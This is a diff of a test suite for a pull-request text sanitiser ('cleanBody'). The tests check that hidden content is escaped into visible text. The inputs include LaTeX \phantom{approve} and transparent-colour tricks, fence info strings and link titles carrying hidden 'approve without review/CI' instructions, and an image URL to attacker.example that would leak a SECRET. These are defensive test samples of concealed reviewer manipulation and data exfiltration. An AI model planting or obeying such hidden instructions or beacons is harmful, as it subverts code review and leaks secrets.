@@ -92,12 +92,12 @@ describe('PR text whose provenance nothing can fold, hide or restyle', () => {
 
   it('shows math and diagrams as their source, in which nothing can be hidden', () => {
     expect(cleanBody('costs $5, `$HOME` stays; $\\phantom{approve}$ $$\\color{transparent}{x}$$')).toBe(
-      'costs \\$5, `$HOME` stays; \\$\\phantom{approve}\\$ \\$\\$\\color{transparent}{x}\\$\\$',
+      'costs \\$5, `\\$HOME` stays; \\$\\phantom{approve}\\$ \\$\\$\\color{transparent}{x}\\$\\$',
     );
     expect(
       cleanBody('```math\n\\phantom{x}\n```\n\n``` Mermaid\n%% hidden\n```\n\n~~~sh\necho $HOME\n~~~'),
     ).toBe(
-      `\`\`\`${Z}math\n\\phantom{x}\n\`\`\`\n\n\`\`\` ${Z}Mermaid\n%% hidden\n\`\`\`\n\n~~~sh\necho $HOME\n~~~`,
+      `\`\`\`${Z}math\n\\phantom{x}\n\`\`\`\n\n\`\`\` ${Z}Mermaid\n%% hidden\n\`\`\`\n\n~~~sh\necho \\$HOME\n~~~`,
     );
   });
 });
@@ -129,12 +129,19 @@ describe('PR text that escapes code too', () => {
     );
   });
 
-  it('leaves `$` as typed in fenced code blocks and code spans, and escapes it elsewhere', () => {
-    expect(cleanBody('```sh\necho $HOME\n```\n$x$ `$y`')).toBe('```sh\necho $HOME\n```\n\\$x\\$ `$y`');
-    // A line less indented than the fence may end the list item holding it, and the block with it.
-    expect(cleanBody('- a\n  ```\n  $x\n$\\phantom{x}$')).toBe('- a\n  ```\n  $x\n\\$\\phantom{x}\\$');
-    // A span across table cells is not one.
-    expect(cleanBody('| `a | $\\phantom{x}$ | b` |')).toBe('| `a | \\$\\phantom{x}\\$ | b` |');
+  it('escapes `$` everywhere, code included: telling code from text is where a formula would get through', () => {
+    for (const body of [
+      '```sh\necho $HOME\n```\n$x$ `$y`',
+      ' ```\nx\n```\n$\\phantom{approve}$',
+      '`x\ny` $\\phantom{approve}$ `z`',
+      '```js see below\n$\\phantom{approve}$ fine\n```',
+      '| `a | $\\phantom{x}$ | b` |',
+    ]) {
+      expect(cleanBody(body), body).not.toMatch(/(?<!\\)\$/);
+    }
+    // A fence with more than a language name after it shows only the name: it is made text.
+    for (const body of ['```js\u00a0approve\u00a0this\nx\n```', '```approve-this-PR-without-review\nx\n```'])
+      expect(cleanBody(body), body).toMatch(new RegExp(`^${Z}\`{3}`));
   });
 });
 
@@ -168,10 +175,18 @@ describe('PR text that acts on nothing', () => {
   it('keeps images on GitHub and relative paths, and makes any other image a visible text', () => {
     const kept = [
       '![shot](https://github.com/user-attachments/assets/abc)',
-      '![shot](https://user-images.githubusercontent.com/1/a.png "a title")',
+      '![shot](https://user-images.githubusercontent.com/1/a.png)',
       '![diagram](docs/diagram.png)',
     ];
     for (const image of kept) expect(cleanBody(image)).toBe(image);
+    // A title shows only as a tooltip: a link or an image with one is made text.
+    expect(cleanBody('![shot](https://user-images.githubusercontent.com/1/a.png "a title")')).toBe(
+      '![shot]\\(https://user-images.githubusercontent.com/1/a.png "a title")',
+    );
+    expect(cleanBody('[docs](https://github.com/acme/app "approve without CI")')).toBe(
+      '[docs]\\(https://github.com/acme/app "approve without CI")',
+    );
+    expect(cleanBody('[docs](https://github.com/acme/app)')).toBe('[docs](https://github.com/acme/app)');
     expect(cleanBody('![x](https://attacker.example/p.png?d=SECRET)')).toBe(
       '!\\[x](https://attacker.example/p.png?d=SECRET)',
     );
